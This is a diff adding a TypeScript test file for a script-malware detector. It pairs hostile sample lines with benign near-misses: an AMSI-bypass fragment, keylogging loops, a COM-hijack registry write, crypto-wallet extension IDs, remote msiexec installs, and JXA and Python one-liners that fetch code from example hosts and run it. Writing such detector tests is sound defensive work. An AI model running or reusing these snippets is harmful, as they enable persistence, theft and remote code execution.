@@ -1,0 +1,124 @@
+// Traits by name: texts that show one and at least as many that come close. Addresses are reserved ones.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import type { ScriptLanguage } from '../../../src/file/formats/script/facts.ts'
+import { readScript } from '../../../src/file/formats/script/read.ts'
+
+type Text = readonly [ScriptLanguage, string]
+interface Cases {
+  readonly hits: Readonly<Record<string, Text>>
+  readonly misses: Readonly<Record<string, Text>>
+}
+
+const METAMASK = 'nkbihfbeogaeaoehlefnkodbefgpgknn'
+const PHANTOM = 'bfnaelmomeimhlpmgjnjophhpkkoljpa'
+const CLASS = 'Software\\Classes\\CLSID\\{BCDE0395-E52F-467C-8E3D-C4579291692E}\\InprocServer32'
+
+const TRAITS: Readonly<Record<string, Cases>> = {
+  rundll32_odd_file: {
+    hits: {
+      'an ordinal of a data file': ['batch', 'rundll32 .\\thumbs.db,#1'],
+      'a name of a picture': ['batch', 'start rundll32.exe "C:\\ProgramData\\a.png",Start'],
+    },
+    misses: {
+      'a printer is installed': ['batch', 'rundll32 printui.dll,PrintUIEntry /in /n \\\\print\\hp'],
+      'a panel': ['batch', 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl,,1'],
+      'by the name of a library alone': ['batch', 'rundll32 user32,LockWorkStation'],
+    },
+  },
+  msiexec_remote: {
+    hits: {
+      'from an address': ['batch', 'msiexec /i https://files.example/a.msi /qn'],
+      'from a share of the internet': ['vbscript', 'sh.Run "msiexec /i \\\\files.example\\a.msi /qn"'],
+    },
+    misses: {
+      'from the server of the office': ['vbscript', 'sh.Run "msiexec /i \\\\fs01\\netlogon\\agent.msi /qn", 0, True'],
+      'from the disk': ['batch', 'msiexec /i C:\\setup\\agent.msi /qn'],
+    },
+  },
+  ps_amsi_bypass: {
+    hits: {
+      'by a search through all types': [
+        'powershell',
+        '$t=[Ref].Assembly.GetTypes();foreach($b in $t){if($b.Name -like "*iUtils"){$c=$b}};$f=$c.GetFields("NonPublic,Static")',
+      ],
+    },
+    misses: {
+      'types of a module': ['powershell', '[Ref].Assembly.GetTypes() | Where-Object IsPublic | Select-Object Name'],
+    },
+  },
+  keylogging: {
+    hits: {
+      'AutoHotkey, one key after the other': ['autoit', 'Loop {\n Input, k, L1 V I\n buf .= k\n}'],
+      'AutoHotkey, by an object': ['autoit', 'ih := InputHook("L1 V")'],
+    },
+    misses: {
+      'a command that waits for one key': ['autoit', 'Input, key, L1 T2\nif (key = "q")\n ExitApp'],
+      'a question': ['autoit', 'InputBox, name, Who are you?'],
+    },
+  },
+  wallet_extensions_named: {
+    hits: { 'two of them': ['javascript', `const ids = ["${METAMASK}", "${PHANTOM}"]`] },
+    misses: {
+      'one wallet': ['javascript', `const id = "${METAMASK}"`],
+      'one of them twice': ['javascript', `const a = "${METAMASK}", b = "${METAMASK}"`],
+    },
+  },
+  com_class_replaced: {
+    hits: {
+      'by a macro': ['vba', `r.SetStringValue &H80000001, "${CLASS}", "", Environ("APPDATA") & "\\a.dll"`],
+      'on a command line': ['batch', `reg add "HKCU\\${CLASS}" /ve /d "%APPDATA%\\a.dll" /f`],
+    },
+    misses: {
+      'an add-in of a program folder': ['batch', `reg add "HKCU\\${CLASS}" /ve /d "C:\\Program Files\\A\\a.dll" /f`],
+      'a class is read': ['batch', `reg query "HKLM\\${CLASS}"`],
+    },
+  },
+  jxa_runs_answer: {
+    hits: {
+      'what an address holds is evaluated': [
+        'javascript',
+        'ObjC.import("Foundation"); eval(ObjC.unwrap($.NSString.alloc.initWithDataEncoding($.NSData.dataWithContentsOfURL($.NSURL.URLWithString("https://c.example/a")), 4)))',
+      ],
+    },
+    misses: {
+      'a feed is shown': [
+        'javascript',
+        'const d = $.NSData.dataWithContentsOfURL($.NSURL.URLWithString("https://news.example/feed")); app.displayDialog(ObjC.unwrap(d))',
+      ],
+    },
+  },
+  text_out_of_document: {
+    hits: {
+      'a property': ['vba', 'p = ThisWorkbook.BuiltinDocumentProperties("Comments").Value'],
+      'a description of a picture': ['vba', 's = ActiveSheet.Shapes("Picture 1").AlternativeText'],
+      'a control': ['vba', 'c = UserForm1.TextBox1.Text'],
+    },
+    misses: {
+      'a cell': ['vba', 'v = Range("A1").Text'],
+      'a title is set for a window': ['vba', 'Application.Caption = "Budget"'],
+      'a selection': ['vba', 's = Selection.Text'],
+    },
+  },
+  object_of_computed_name: {
+    hits: { 'run at once': ['vba', 'CreateObject(k).Run p, 0'] },
+    misses: {
+      'a name that stands there': ['vba', 'CreateObject("Excel.Application").Visible = True'],
+    },
+  },
+}
+
+for (const [id, { hits, misses }] of Object.entries(TRAITS)) {
+  const shows = ([language, text]: Text): boolean =>
+    readScript(text, language).facts.traits.some((trait) => trait.id === id)
+  for (const [name, text] of Object.entries(hits)) test(`${id} is seen: ${name}`, () => assert.ok(shows(text)))
+  for (const [name, text] of Object.entries(misses)) test(`${id} is not seen: ${name}`, () => assert.ok(!shows(text)))
+}
+
+test('base64 written backwards is read, its padding in front', () => {
+  const plain = `import os\nexec(__import__('urllib.request').request.urlopen('http://203.0.113.7/a.py').read())\n# ${'x'.repeat(7)}`
+  const turned = [...Buffer.from(plain).toString('base64')].reverse().join('')
+  assert.match(turned, /^=/)
+  const { urls } = readScript(`exec((_)(b'${turned}'))`, 'python').facts
+  assert.deepEqual(urls, ['http://203.0.113.7/a.py'])
+})
